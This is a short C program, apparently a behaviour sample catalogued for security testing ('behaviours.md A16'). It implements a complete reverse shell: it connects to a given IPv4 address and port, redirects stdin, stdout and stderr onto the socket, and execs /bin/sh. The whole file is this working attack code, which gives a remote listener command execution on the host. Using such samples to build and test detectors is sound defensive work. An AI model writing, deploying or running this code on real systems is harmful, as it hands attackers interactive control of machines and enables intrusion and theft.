/* SPDX-License-Identifier: Apache-2.0 */
/*
 * bh-dupsh IPV4 PORT — connect to IPV4:PORT, dup2 the socket onto stdin, stdout and
 * stderr and exec /bin/sh: the shape of a reverse shell (behaviours.md A16). The peer decides
 * what the shell runs; a peer that closes at once ends it.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

static int port_parse(const char *s, unsigned short *ret_port)
{
	unsigned v = 0;

	if (*s == '\0')
		return -1;
	for (; *s != '\0'; s++) {
		if (*s < '0' || *s > '9')
			return -1;
		v = v * 10 + (unsigned)(*s - '0');
		if (v > 65535)
			return -1;
	}
	*ret_port = (unsigned short)v;
	return 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	unsigned short port;

	if (argc != 3 || inet_pton(AF_INET, argv[1], &sa.sin_addr) != 1 ||
	    port_parse(argv[2], &port) != 0) {
		fprintf(stderr, "usage: bh-dupsh IPV4 PORT\n");
		return 2;
	}
	sa.sin_port = htons(port);
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0) {
		perror("bh-dupsh: connect");
		return 1;
	}
	for (int i = 0; i < 3; i++)
		if (dup2(fd, i) != i) {
			perror("bh-dupsh: dup2");
			return 1;
		}
	(void)close(fd);
	char *args[] = { "sh", NULL };

	execv("/bin/sh", args);
	return 1;
}
